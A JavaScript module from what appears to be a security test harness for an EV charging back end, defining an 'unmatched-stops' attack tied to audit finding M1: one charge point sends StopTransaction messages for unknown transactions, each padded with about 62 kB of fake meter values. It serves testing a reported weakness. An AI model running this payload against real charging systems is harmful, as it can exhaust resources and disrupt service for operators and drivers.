import { defineAttack } from '../attack.js'
import { sendFromAll, timestampAt } from '../calls.js'

/** About 62 kB. */
const transactionData = Array.from({ length: 500 }, (_, at) => ({
  timestamp: timestampAt(Date.UTC(2026, 0, 1) + at * 1_000),
  sampledValue: [{ value: String(at), measurand: 'Energy.Active.Import.Register', unit: 'Wh' }],
}))

export const unmatchedStops = defineAttack({
  name: 'unmatched-stops',
  finding: 'M1',
  does: 'One charge point ends unknown transactions with 62 kB of meter values each at the allowed rate.',
  chargePoints: 1,
  run: (attacker) =>
    sendFromAll(attacker, (number) => [
      'StopTransaction',
      { transactionId: 1_000_000 + number, meterStop: number, timestamp: timestampAt(Date.now()), transactionData },
    ]),
})
